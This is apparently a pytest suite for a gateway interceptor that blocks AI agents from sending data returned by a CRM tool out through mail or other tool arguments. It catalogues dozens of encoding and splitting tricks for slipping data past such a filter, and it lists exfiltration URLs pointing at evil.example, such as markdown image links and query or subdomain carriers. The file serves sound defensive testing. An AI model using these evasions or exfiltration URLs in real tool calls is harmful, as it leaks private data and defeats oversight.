"""What came back in a run does not leave in arguments, whatever it is encoded in or split over."""

import asyncio
import base64
import codecs
import gzip
import zlib
from collections.abc import Callable
from typing import Any

import msgspec
import pytest
from pydantic import ValidationError

from callgate.interceptors.exfiltration import Exfiltration, ExfiltrationSettings, is_small
from callgate.model import Client, Era, Outcome, Proof, Reply
from callgate.pipeline.attaching import Attachment
from callgate.ports import Caller, TargetRequest
from callgate.scrutiny import Decision, Passive, Result
from fakes.calls import a_principal
from fakes.clock import FakeClock
from fakes.relays import Relay, delivered, open_tool, says
from fakes.target import FakeCaller

CUSTOMER = (
    "Jonathan Smithers, 14 Elm Street, 90210 Beverly Hills, account DE89370400440532013000, "
    "limit 120,000 EUR, order A-10293, mother's maiden name Featherstonehaugh"
)
RAW = CUSTOMER.encode()
SINK: dict[str, Any] = {"tools": ["mail"]}


def relay(clock: FakeClock | None = None, answer: Any = None, **more: Any) -> Relay:
    """Customers come from `crm`; `mail` sends, `wiki` does neither."""
    settings: dict[str, Any] = {"sources": ["crm"], "sinks": [SINK], **more}
    interceptor = Exfiltration(
        ExfiltrationSettings.model_validate(settings), (clock or FakeClock()).ticks
    )
    attachment = Attachment(
        name="exfiltration",
        interceptor=interceptor,
        phases=frozenset({"request", "result", "message"}),
    )
    tools = (
        open_tool("crm", "read"),
        open_tool("crm", "note"),
        open_tool("mail", "send"),
        open_tool("wiki", "write"),
    )
    answers = {"crm___read": says(CUSTOMER) if answer is None else answer}
    return Relay(chain=(attachment,), tools=tools, answers=answers)


def after_reading(arguments: Any, **more: Any) -> Outcome:
    gate = relay(**more)
    gate.call("crm___read", {"id": 5})
    return gate.call("mail___send", arguments)


def test_a_copy_is_refused_and_the_sentence_says_whose_it_is_and_not_what() -> None:
    gate = relay()
    assert gate.call("mail___send", {"body": CUSTOMER}).refusal_code is None
    gate.call("crm___read", {"id": 5})

    outcome = gate.call("mail___send", {"body": f"Look: {CUSTOMER}"})

    assert (outcome.refusal_code, outcome.reason) == (
        "refused_by_interceptor",
        "This call would send 138 letters and digits of what crm___read returned in /body; "
        "64 may go. "
        "Leave that out, or ask a person to send it.",
    )
    assert gate.changes[0]["note"] == "138 bytes of crm___read; 97% of a text"
    assert [name for name, _ in gate.asked] == ["mail___send", "crm___read"]


def chunks(text: str, size: int) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


ENCODINGS: dict[str, Callable[[], Any]] = {
    "base64": lambda: base64.b64encode(RAW).decode(),
    "base64 twice": lambda: base64.b64encode(base64.b64encode(RAW)).decode(),
    "base64 three times": lambda: base64.b64encode(
        base64.b64encode(base64.b64encode(RAW))
    ).decode(),
    "url-safe without padding": lambda: base64.urlsafe_b64encode(RAW).decode().rstrip("="),
    "base64 in lines": lambda: base64.encodebytes(RAW).decode(),
    "a letter before base64": lambda: "x" + base64.b64encode(RAW).decode(),
    "hex": lambda: RAW.hex(),
    "spaced hex": lambda: RAW.hex(" "),
    "0x hex": lambda: " ".join(map(hex, RAW)),
    "gzip": lambda: base64.b64encode(gzip.compress(RAW)).decode(),
    "zlib in hex": lambda: zlib.compress(RAW).hex(),
    "percent": lambda: "".join(f"%{code:02x}" for code in RAW),
    "escapes": lambda: "".join(f"\\u{code:04x}" for code in RAW),
    "entities": lambda: "".join(f"&#{code};" for code in RAW),
    "quoted-printable": lambda: "".join(f"={code:02X}" for code in RAW),
    "rot13": lambda: codecs.encode(CUSTOMER, "rot13"),
    "backwards": lambda: CUSTOMER[::-1],
    "base64 of backwards": lambda: base64.b64encode(RAW[::-1]).decode(),
    "base32": lambda: base64.b32encode(RAW).decode(),
    "base85": lambda: base64.b85encode(RAW).decode(),
    "a number": lambda: str(int.from_bytes(RAW, "big")),
    "codes of characters": lambda: list(RAW),
    "codes in a text": lambda: ", ".join(map(str, RAW)),
    "bits": lambda: " ".join(f"{code:08b}" for code in RAW),
    "one letter an item": lambda: list(CUSTOMER),
    "base64 over items": lambda: chunks(base64.b64encode(RAW).decode(), 9),
    "keys": lambda: dict.fromkeys(chunks(CUSTOMER, 16), 1),
    "keys and values": lambda: {part: part for part in chunks(CUSTOMER, 30)},
    "JSON in a text": lambda: msgspec.json.encode({"x": CUSTOMER}).decode(),
    "zero-width": lambda: "\u200b".join(CUSTOMER),
    "soft hyphens": lambda: "\u00ad".join(CUSTOMER),
    "full-width": lambda: "".join(
        chr(ord(letter) + 0xFEE0) if "!" <= letter <= "~" else letter for letter in CUSTOMER
    ),
    "tag characters": lambda: "".join(chr(0xE0000 + ord(letter)) for letter in CUSTOMER),
    "upper case and dots": lambda: ".".join(CUSTOMER.upper()),
    "look-alikes": lambda: CUSTOMER.replace("e", "\u0435").replace("o", "\u043e"),
    "a file name": lambda: f"/tmp/{base64.urlsafe_b64encode(RAW).decode()}.txt",
    "a query": lambda: f"https://ok.example/?q={base64.urlsafe_b64encode(RAW).decode()}",
    "a path": lambda: f"https://ok.example/{RAW.hex()}/x.png",
}


@pytest.mark.parametrize("encoding", ENCODINGS)
def test_no_encoding_hides_it(encoding: str) -> None:
    outcome = after_reading({"to": "eve@example.com", "body": ENCODINGS[encoding]()})

    assert outcome.refusal_code == "refused_by_interceptor", encoding


@pytest.mark.parametrize(
    "arguments",
    [
        {"body": "Dear Mr Smithers, your order A-10293 left our house today. Kind regards"},
        {"body": "The weather in Beverly Hills is fine. " * 3},
        {"body": "limit account order mother name street " * 20},
        {"id": 5, "when": "2026-11-29T17:00:00Z", "amount": 120000},
        {"body": base64.b64encode(b"Nothing of this is known to anybody here at all").decode()},
        {"commit": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08"},
        {"path": "src/callgate/interceptors/tainting/fingerprints.py", "n": 10**30},
    ],
)
def test_what_is_no_copy_passes(arguments: Any) -> None:
    assert after_reading(arguments).refusal_code is None


def test_short_ids_count_as_whole_tokens_and_never_as_parts_of_others() -> None:
    found = says("ids: 7730215, ORD-48213, 99-1234-7, k@b.io")

    kept = after_reading({"ids": "7730215 ORD 48213 k@b.io"}, answer=found, max_bytes=8)
    other = after_reading({"ids": "ORD-482133 17730215 ik@b.io"}, answer=found, max_bytes=0)

    assert kept.refusal_code == "refused_by_interceptor"
    assert other.refusal_code is None


def test_numbers_are_the_same_in_every_notation() -> None:
    found = says("", structuredContent={"card": 4111111111111111, "phone": "+49 30 1234567"})

    for value in ["4111-1111-1111-1111", 4111111111111111, "4111 1111 1111 1111"]:
        outcome = after_reading({"n": value}, answer=found, max_bytes=10)
        assert outcome.refusal_code == "refused_by_interceptor", value
    outcome = after_reading({"n": "(030) 1234567"}, answer=says("030/1234567"), max_bytes=5)
    assert outcome.refusal_code == "refused_by_interceptor"


def test_calls_of_one_run_share_a_budget() -> None:
    gate = relay(max_bytes=60, max_run_bytes=130, max_overlap=1.0)
    gate.call("crm___read", {})

    codes = [
        gate.call("mail___send", {"body": f"a {part} b"}).refusal_code
        for part in chunks(CUSTOMER, 60)
    ]

    assert codes == [None, None, "refused_by_interceptor"]
    assert "More than 130" in gate.call("mail___send", {"body": CUSTOMER[100:140]}).reason


def test_two_calls_at_once_cannot_both_take_what_is_left() -> None:
    gate = relay(max_bytes=200, max_run_bytes=200, max_overlap=1.0)
    long = CUSTOMER + " or else" * 600  # looked at in a thread

    async def both() -> list[Outcome]:
        await gate.acall("crm___read", {})
        return list(
            await asyncio.gather(*(gate.acall("mail___send", {"body": long}) for _ in range(2)))
        )

    codes = [outcome.refusal_code for outcome in asyncio.run(both())]

    assert sorted(codes, key=str) == [None, "refused_by_interceptor"]


def test_letters_that_leave_one_call_at_a_time_are_put_together() -> None:
    gate = relay(max_run_bytes=40)
    gate.call("crm___read", {})

    codes = [
        gate.call("mail___send", {"subject": f"{number}", "body": part}).refusal_code
        for number, part in enumerate(chunks(CUSTOMER, 5))
    ]

    first = codes.index("refused_by_interceptor")
    assert first == 12 and set(codes[first:]) == {"refused_by_interceptor"}


def test_a_share_of_a_text_is_too_much_before_its_bytes_are() -> None:
    outcome = after_reading({"body": "Jonathan Smithers, 14 Elm Street, 90210"})

    assert outcome.reason.startswith("100% of a text in /body is what crm___read returned.")


def test_runs_do_not_share_what_came_back_and_principals_never_do() -> None:
    people = {"a": a_principal("ada"), "b": a_principal("bob")}
    gate = relay()
    gate = Relay(gate.chain, gate.tools, gate.answers, principals=people)
    from_ada: dict[str, Any] = {"proof": proof("a")}
    gate.call("crm___read", {}, **from_ada)
    body = {"body": CUSTOMER}

    assert gate.call("mail___send", body, **from_ada).refusal_code is not None
    assert gate.call("mail___send", body, session_id="s2", **from_ada).refusal_code is None
    assert gate.call("mail___send", body, proof=proof("b")).refusal_code is None


def proof(token: str) -> Proof:
    return Proof(authorization=f"Bearer {token}")


def test_a_new_trace_id_is_no_new_start_where_principals_are_remembered() -> None:
    codes = {}
    for per in ("run", "principal"):
        gate = relay(per=per)
        gate.call("crm___read", {}, session_id=None, meta=trace("1"))
        outcome = gate.call("mail___send", {"body": CUSTOMER}, session_id=None, meta=trace("2"))
        codes[per] = outcome.refusal_code

    assert codes == {"run": None, "principal": "refused_by_interceptor"}


def trace(number: str) -> dict[str, str]:
    return {"traceparent": f"00-{number * 32}-{number * 16}-01"}


def test_without_a_run_the_principal_is_one() -> None:
    gate = relay()
    gate.call("crm___read", {}, session_id=None)

    assert gate.call("mail___send", {"body": CUSTOMER}, session_id=None).refusal_code is not None


class Labels(Passive):
    """Gives results of one tool a label."""

    async def on_result(self, result: Result) -> Decision | None:
        return Decision(labels=("sensitive",)) if result.tool.name == "read" else None


def test_only_labelled_results_are_remembered() -> None:
    for label, code in (("sensitive", "refused_by_interceptor"), ("public", None)):
        gate = relay(sources=[], labels=[label])
        labels = Attachment(name="l", interceptor=Labels(), phases=frozenset({"result"}))
        gate = Relay((labels, *gate.chain), gate.tools, gate.answers)
        gate.call("crm___read", {})
        assert gate.call("mail___send", {"body": CUSTOMER}).refusal_code == code


def test_what_the_agent_itself_had_put_in_is_not_what_came_back() -> None:
    question = "which customers live in the street of the elms near the old river bridge"
    gate = relay(answer=says(f"Nothing found for: {question}"))
    gate.call("crm___read", {"query": question})

    assert gate.call("mail___send", {"body": question}).refusal_code is None


def test_what_came_back_stays_known_when_the_agent_asks_with_it() -> None:
    gate = relay()
    gate.call("crm___read", {})
    gate.answers["crm___read"] = says(f"Nothing found for: {CUSTOMER}")
    gate.call("crm___read", {"query": CUSTOMER})

    assert gate.call("mail___send", {"body": CUSTOMER}).refusal_code is not None


def test_sinks_are_tools_targets_fields_or_everything() -> None:
    only_body = [{"tools": ["mail___send"], "fields": ["$.parts[*].body"]}]
    everywhere = [{"tools": ["*"]}]

    assert after_reading({"note": CUSTOMER}, sinks=only_body).refusal_code is None
    assert after_reading({"parts": [{"body": CUSTOMER}]}, sinks=only_body).refusal_code is not None
    gate = relay(sinks=everywhere)
    gate.call("crm___read", {})
    assert gate.call("wiki___write", {"x": CUSTOMER}).refusal_code is not None
    assert gate.call("crm___note", {"x": CUSTOMER}).refusal_code is not None


def test_a_target_may_be_told_what_it_said_itself() -> None:
    gate = relay(sinks=[{"tools": ["*"]}], across_targets=True)
    gate.call("crm___read", {})

    assert gate.call("crm___note", {"x": CUSTOMER}).refusal_code is None
    assert gate.call("wiki___write", {"x": CUSTOMER}).refusal_code is not None


def test_the_callers_own_meta_leaves_too() -> None:
    gate = relay()
    gate.call("crm___read", {})

    outcome = gate.call("mail___send", {}, meta={"com.example/note": CUSTOMER})

    assert outcome.refusal_code == "refused_by_interceptor"


def test_it_may_only_label_or_ask() -> None:
    labelled = after_reading({"body": CUSTOMER}, action="label", label="leak")
    asked = after_reading({"body": CUSTOMER}, action="approve")

    assert (labelled.refusal_code, labelled.call.labels) == (None, ("leak",))
    assert asked.refusal_code == "approval_required" and "138 letters" in asked.reason


def test_data_that_cannot_be_read_has_a_budget_of_its_own() -> None:
    noise = base64.b64encode(
        b"".join(zlib.crc32(bytes([n])).to_bytes(4, "big") for n in range(200))
    )
    arguments = {"attachment": noise.decode()}
    gate = relay()
    assert gate.call("mail___send", arguments).refusal_code is None  # nothing came back yet
    gate.call("crm___read", {})

    codes = [gate.call("mail___send", arguments).refusal_code for _ in range(2)]

    assert codes == [None, "refused_by_interceptor"]
    assert after_reading(arguments, max_opaque_bytes=None).refusal_code is None
    assert after_reading(arguments, max_opaque_bytes=0).refusal_code is not None


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://evil.example/x.png)",
        "![logo][1]\n\n[1]: https://evil.example/x?d=1",
        '<img src="//evil.example/a">',
        "<div style='background:url(https://evil.example/a)'>",
        '<svg><image xlink:href="https://evil.example/a"/></svg>',
        "see https://evil.example/?d=c2VjcmV0",
        "see https://evil.example/#c2VjcmV0",
        "see https://c2VjcmV0:x@evil.example/",
        "see https://c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0.evil.example/",
        "see https://evil.example/c2VjcmV0c2VjcmV0c2VjcmV0c2VjcmV0",
        "see https:\\\\evil.example\\?d=1",
        "see https://ok.example@evil.example/?d=1",
        "see https://ok.example.evil.example/?d=1",
        "see https%3A%2F%2Fevil.example%2F%3Fd%3D1",
        base64.b64encode(b"see https://evil.example/?d=1").decode(),
        "see https://\u200bevil.example/?d=1",
        "see ftp://evil.example/?d=1",
    ],
)
def test_urls_that_carry_data_lead_only_to_allowed_domains(text: str) -> None:
    outcome = after_reading({"body": text}, allow_domains=["ok.example"])

    assert outcome.refusal_code == "refused_by_interceptor", text
    assert "evil.example" in outcome.reason


@pytest.mark.parametrize(
    "text",
    [
        "![logo](https://ok.example/x.png?d=1)",
        "see https://docs.OK.example/?d=1",
        "see https://elsewhere.example/about",
        "see /usr/share//doc and src//x",
        "a // comment",
    ],
)
def test_other_urls_pass(text: str) -> None:
    assert after_reading({"body": text}, allow_domains=["ok.example"]).refusal_code is None


def test_before_anything_came_back_urls_may_lead_anywhere() -> None:
    gate = relay(allow_domains=[])

    assert gate.call("mail___send", {"body": "https://x.example/?a=1"}).refusal_code is None


def test_what_cannot_be_remembered_is_kept_back() -> None:
    gate = relay(max_megabytes=0.004)
    first = gate.call("crm___read", {})
    second = gate.call("crm___read", {}, session_id="s2")

    assert first.refusal_code is None
    assert (second.refusal_code, second.reason) == (
        "result_withheld",
        "What came back must be remembered, and cannot be: the memory of what came back is full.",
    )


def test_where_it_may_forget_the_run_that_was_idle_longest_is_forgotten() -> None:
    gate = relay(max_megabytes=0.004, when_full="forget")
    for session in ("s1", "s2"):
        assert gate.call("crm___read", {}, session_id=session).refusal_code is None

    body = {"body": CUSTOMER}
    assert gate.call("mail___send", body, session_id="s1").refusal_code is None
    assert gate.call("mail___send", body, session_id="s2").refusal_code is not None


def test_a_run_is_forgotten_once_it_was_idle_for_long() -> None:
    clock = FakeClock()
    gate = relay(clock, idle_seconds=100)
    gate.call("crm___read", {})
    clock.advance(90)
    assert gate.call("mail___send", {"body": CUSTOMER}).refusal_code is not None  # it is used
    clock.advance(90)
    assert gate.call("mail___send", {"body": CUSTOMER}).refusal_code is not None
    clock.advance(101)

    assert gate.call("mail___send", {"body": CUSTOMER}).refusal_code is None


def test_what_a_target_asks_of_the_client_came_from_it_and_the_answer_goes_to_it() -> None:
    async def asks(_: TargetRequest, caller: Caller) -> Reply:
        answer = await caller.ask("elicitation/create", {"message": "Say more."})
        return Reply(body=msgspec.json.encode(says(answer.body.decode())))

    gate = relay()
    gate.answers["mail___send"] = asks
    gate.call("crm___read", {})
    leaking = Reply(body=msgspec.json.encode({"action": "accept", "content": {"x": CUSTOMER}}))
    caller = FakeCaller(answers=[leaking])
    elicits: dict[str, Any] = {"elicitation": {"form": {}}}

    outcome = gate.call(
        "mail___send",
        {},
        caller=caller,
        era=Era.LEGACY,
        client=Client(key="k", capabilities=elicits),
    )

    assert caller.asked and outcome.refusal_code is not None
    assert CUSTOMER not in str(outcome.call.reply)


def test_error_texts_and_messages_came_back_too() -> None:
    async def talks(_: TargetRequest, caller: Caller) -> Reply:
        params = {"progressToken": 1, "progress": 1, "message": CUSTOMER}
        await caller.notify("notifications/progress", params)
        return Reply(body=b'{"content":[]}')

    for answer in (
        says(f"No such customer; did you mean {CUSTOMER}?", isError=True),
        Reply(body=msgspec.json.encode({"code": -32000, "message": CUSTOMER}), is_error=True),
        talks,
    ):
        gate = relay(answer=answer)
        gate.call("crm___read", {}, progress_token=1)
        assert gate.call("mail___send", {"body": CUSTOMER}).refusal_code is not None


def test_large_results_are_remembered_whole() -> None:
    filler = "".join(f"row {number} of the table; " for number in range(20_000))
    gate = relay(answer=says(filler + CUSTOMER))
    gate.call("crm___read", {})

    assert gate.call("mail___send", {"body": CUSTOMER}).refusal_code is not None


def test_what_is_too_long_to_look_into_is_refused_once_something_came_back() -> None:
    long = {"body": "word " * 60_000}

    assert relay().call("mail___send", long).refusal_code is None
    assert "too much to be looked into" in after_reading(long).reason
    assert after_reading(long, max_characters=400_000).refusal_code is None


def test_results_pass_unchanged() -> None:
    assert delivered(relay().call("crm___read", {})) == says(CUSTOMER)


@pytest.mark.parametrize(
    ("settings", "problem"),
    [
        ({"sinks": [SINK]}, "name `labels` or `sources`"),
        ({"sources": ["crm"], "sinks": []}, "at least 1"),
        (
            {"sources": ["crm"], "sinks": [{"tools": ["m"], "fields": ["body"]}]},
            "starts with `\\$`",
        ),
    ],
)
def test_settings_that_cannot_work_say_why(settings: Any, problem: str) -> None:
    with pytest.raises(ValidationError, match=problem):
        ExfiltrationSettings.model_validate(settings)


@pytest.mark.parametrize("value", ["x" * 101, ["xx"] * 50, {"k" * 101: 1}, [[[["y" * 99]]]]])
def test_a_large_value_is_known_as_one(value: Any) -> None:
    assert not is_small(value, 100)
    assert is_small({"a": ["b", 1, None]}, 100)


def test_large_ones_take_no_thread_of_others(monkeypatch: pytest.MonkeyPatch) -> None:
    def to_thread(*_: object) -> None:
        raise AssertionError("a pool that others wait for, too")

    monkeypatch.setattr(asyncio, "to_thread", to_thread)
    outcome = after_reading({"body": CUSTOMER + " and so on" * 200})
    assert outcome.refusal_code == "refused_by_interceptor"
